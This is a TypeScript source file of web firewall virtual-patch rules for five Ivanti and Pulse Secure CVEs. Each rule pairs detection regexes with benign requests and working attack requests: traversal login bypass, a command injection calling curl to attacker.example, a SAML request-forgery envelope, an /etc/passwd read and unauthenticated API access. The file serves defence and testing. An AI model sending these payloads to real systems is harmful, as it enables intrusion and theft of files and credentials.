// Ivanti and Pulse Secure.
import { asPath, asSent, type CatalogPatch, definePatch, xml } from '../entry.js';

const r = String.raw;

export const ivantiPatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007307,
    cve: 'CVE-2023-46805',
    title: 'Ivanti Connect Secure login bypass',
    product: 'Ivanti Connect Secure and Policy Secure',
    affected: '9.x, 22.x',
    cwe: 'CWE-287',
    severity: 'high',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /api/v1/(?:totp/user-backup-code|cav/client/status)/+\.\./`, asSent]],
    attack: [
      ['traversal', 'GET /api/v1/totp/user-backup-code/../../system/system-information'],
      ['encoded', 'GET /api/v1/totp/user-backup-code/%2e%2e/%2e%2e/license/keys-status/x'],
    ],
    benign: [
      ['the resource', 'GET /api/v1/totp/user-backup-code'],
      ['in the query', 'GET /x?p=/api/v1/totp/user-backup-code/../a'],
    ],
  }),
  definePatch({
    id: 1007308,
    cve: 'CVE-2024-21887',
    title: 'Ivanti Connect Secure command injection',
    product: 'Ivanti Connect Secure and Policy Secure',
    affected: '9.x, 22.x',
    cwe: 'CWE-77',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', '@rx /license/keys-status/.*[;|`$&]', asSent]],
    attack: [
      ['command in the path', 'GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20attacker.example'],
    ],
    benign: [
      ['a key', 'GET /api/v1/license/keys-status/AB-12'],
      ['elsewhere', 'GET /api/v1/status/;a'],
    ],
  }),
  definePatch({
    id: 1007309,
    cve: 'CVE-2024-21893',
    title: 'Ivanti SAML request forgery',
    product: 'Ivanti Connect Secure, Policy Secure, Neurons for ZTA',
    affected: '9.x, 22.x',
    cwe: 'CWE-918',
    severity: 'high',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /dana-ws/saml(?:20)?\.ws`, asPath],
      ['FULL_REQUEST', r`@rx retrievalmethod[^>]{0,200}uri\s*=`, 'lowercase'],
    ],
    attack: [
      [
        'key from elsewhere',
        'POST /dana-ws/saml20.ws',
        xml,
        '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>' +
          '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo>' +
          '<ds:RetrievalMethod URI="http://127.0.0.1:8090/x"/></ds:KeyInfo></ds:Signature></e:Body>' +
          '</e:Envelope>',
      ],
    ],
    benign: [
      [
        'an envelope',
        'POST /dana-ws/saml20.ws',
        xml,
        '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>',
      ],
      ['elsewhere', 'POST /saml/acs', xml, '<RetrievalMethod URI="#a"/>'],
    ],
  }),
  definePatch({
    id: 1007310,
    cve: 'CVE-2019-11510',
    title: 'Pulse Secure reads any file',
    product: 'Pulse Connect Secure',
    affected: '8.2, 8.3 before 7.1, 9.0 before 3.4',
    cwe: 'CWE-22',
    technique: 'T1083',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /dana/html5acc/guacamole/\.\./`, asSent]],
    attack: [
      [
        'password file',
        'GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/',
      ],
    ],
    benign: [
      ['the application', 'GET /dana/html5acc/guacamole/app.js'],
      ['login', 'GET /dana-na/auth/url_default/welcome.cgi'],
    ],
  }),
  definePatch({
    id: 1007311,
    cve: 'CVE-2023-35078',
    title: 'Ivanti EPMM API without login',
    product: 'Ivanti Endpoint Manager Mobile',
    affected: 'before 11.8.1.1, 11.9.1.1, 11.10.0.2',
    cwe: 'CWE-287',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', '@contains /mifs/aad/api/v2/', asPath]],
    attack: [['users', 'GET /mifs/aad/api/v2/admins/users']],
    benign: [
      ['the proper API', 'GET /mifs/api/v2/ping'],
      ['login', 'GET /mifs/user/login.jsp'],
    ],
  }),
];
